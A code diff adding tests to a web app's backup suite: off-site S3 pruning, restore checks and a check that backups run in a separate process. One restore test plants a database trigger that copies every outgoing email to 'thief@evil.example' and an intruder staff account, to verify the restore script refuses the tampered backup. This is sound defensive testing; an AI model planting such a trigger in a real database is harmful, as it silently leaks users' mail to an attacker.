@@ -8,8 +8,8 @@ import SQLite from "better-sqlite3";
 import S3rver from "s3rver";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 
-import { checkDatabaseFile, isBackupFile } from "~/platform/backups.server";
-import { downloadOffsite, latestOffsiteKey, uploadBackup } from "~/platform/offsite.server";
+import { backupFileName, checkDatabaseFile, isBackupFile } from "~/platform/backups.server";
+import { downloadOffsite, latestOffsiteKey, pruneOffsite, uploadBackup } from "~/platform/offsite.server";
 
 import { openDatabase } from "../../db/connection";
 import { waitFor } from "../helpers/poll";
@@ -193,6 +193,27 @@ describe("off-site copies", () => {
     await downloadOffsite(settings, BUCKET, key, downloaded);
     expect(sha256(downloaded)).toBe(sha256(backup));
   }, 60_000);
+
+  it("take as latest, and prune, by the backups' own time, passing over keys that are not ours", async () => {
+    const { AWS_ACCESS_KEY_ID, AWS_SECRET_ACCESS_KEY, BACKUP_S3_ENDPOINT, AWS_REGION } = offsiteEnv("");
+    Object.assign(process.env, { AWS_ACCESS_KEY_ID, AWS_SECRET_ACCESS_KEY });
+    const settings = { url: `s3://${BUCKET}/planted`, endpoint: BACKUP_S3_ENDPOINT, region: AWS_REGION };
+    const folder = makeTempDir("planted-");
+    const daysAgo = (days: number) => backupFileName(new Date(Date.now() - days * 86_400_000));
+    // Stored newest last, so the order of storing can't stand in for the order of making.
+    const names = [daysAgo(1), daysAgo(3), "site-29991231-235959.db", "site-20260231-000000.db", "notes.db"];
+    for (const name of names) {
+      fs.writeFileSync(path.join(folder, name), "a backup");
+      await uploadBackup(settings, path.join(folder, name));
+    }
+    expect(await latestOffsiteKey(settings)).toBe(`planted/${daysAgo(1)}`);
+    expect(await pruneOffsite(settings, 1)).toBe(1);
+    expect(await bucketKeys("planted/")).toEqual(
+      ["notes.db", "site-20260231-000000.db", "site-29991231-235959.db", daysAgo(1)]
+        .map((name) => `planted/${name}`)
+        .sort(),
+    );
+  });
 });
 
 describe("restore", () => {
@@ -254,6 +275,36 @@ describe("restore", () => {
     );
   }, 90_000);
 
+  it("refuses a backup with a trigger the migrations never make, and names the staff accounts before swapping", async () => {
+    const server = await startServer({ env: adminEnv });
+    const backup = path.join(makeTempDir("backup-"), "copy.db");
+    expect((await runScript("scripts/db-backup.ts", [backup], { DATABASE_PATH: server.databasePath })).status).toBe(0);
+    await server.stop();
+    const planted = new SQLite(backup);
+    planted.prepare("insert into staff_users (email, password_hash) values ('intruder@evil.example', 'x')").run();
+    fs.copyFileSync(backup, `${backup}.accounts-only.db`);
+    planted.exec(`create trigger copy_emails_out after insert on outbox begin
+      insert into outbox (recipient, subject, text_body, html_body, next_attempt_at)
+      values ('thief@evil.example', new.subject, new.text_body, new.html_body, new.next_attempt_at);
+    end`);
+    planted.close();
+
+    const refused = await runScript("scripts/db-restore.ts", [backup], { DATABASE_PATH: server.databasePath });
+    expect(refused.status).toBe(1);
+    expect(refused.stderr).toMatch(
+      /^Not restored: .+copy\.db holds what this site's migrations never make \(trigger copy_emails_out\)/,
+    );
+    expect(fs.readdirSync(server.dataDir).filter((name) => name.includes("before-restore"))).toEqual([]);
+
+    const restored = await runScript("scripts/db-restore.ts", [`${backup}.accounts-only.db`], {
+      DATABASE_PATH: server.databasePath,
+    });
+    expect(restored.status, restored.stderr).toBe(0);
+    expect(restored.stdout).toMatch(
+      /Staff accounts in the backup \(2\):\n {2}owner@example\.com \(added .+\)\n {2}intruder@evil\.example \(added .+, last signed in never\)\nRestored /,
+    );
+  }, 120_000);
+
   it("refuses a file that is not a whole backup, and changes nothing", async () => {
     const dataDir = makeTempDir();
     const notABackup = path.join(dataDir, "notes.db");
@@ -302,7 +353,47 @@ describe("restore", () => {
   }, 120_000);
 });
 
+/** The command lines of a process's children, as /proc shows them. */
+function childCommandLines(pid: number) {
+  return fs.readdirSync("/proc").flatMap((entry) => {
+    try {
+      const stat = fs.readFileSync(`/proc/${entry}/stat`, "utf8");
+      // The parent's id is the second field after the command name in parentheses.
+      if (Number(stat.slice(stat.lastIndexOf(")") + 2).split(" ")[1]) !== pid) return [];
+      return [fs.readFileSync(`/proc/${entry}/cmdline`, "utf8").split("\0").join(" ").trim()];
+    } catch {
+      return []; // not a process, or gone
+    }
+  });
+}
+
 describe("a big database", () => {
+  it("is backed up on schedule by a process of its own, never on the server's event loop", async () => {
+    const server = await startServer({ env: fastBackups });
+    try {
+      const { sqlite } = server.openDb();
+      const insert = sqlite.prepare(
+        "insert into leads (name, phone, service, message) values ('Big', '2545550100', 'tree-removal', ?)",
+      );
+      sqlite.transaction(() => {
+        for (let i = 0; i < 2000; i++) insert.run("x".repeat(100_000));
+      })();
+      sqlite.close();
+      const writesBefore = countWrites(server);
+      const backupProcess = await waitFor(
+        () => childCommandLines(server.pid).find((command) => / backup \S+site-\d{8}-\d{6}(-\d+)?\.db$/.test(command)),
+        30_000,
+      );
+      expect(backupProcess).toContain(path.join(server.dataDir, "backups"));
+      await waitFor(() => countWrites(server) > writesBefore, 60_000);
+      const newest = writtenBackups(server).at(-1)!;
+      const check = checkDatabaseFile(path.join(server.dataDir, "backups", newest));
+      expect(check.tables).toContain("leads");
+    } finally {
+      await server.stop();
+    }
+  }, 120_000);
+
   it("is backed up whole while quotes arrive at 10/s, and a killed backup leaves nothing that looks like one", async () => {
     const server = await startServer({ env: { CONTACT_RATE_LIMIT_PER_HOUR: "100000" } });
     const { sqlite } = server.openDb();
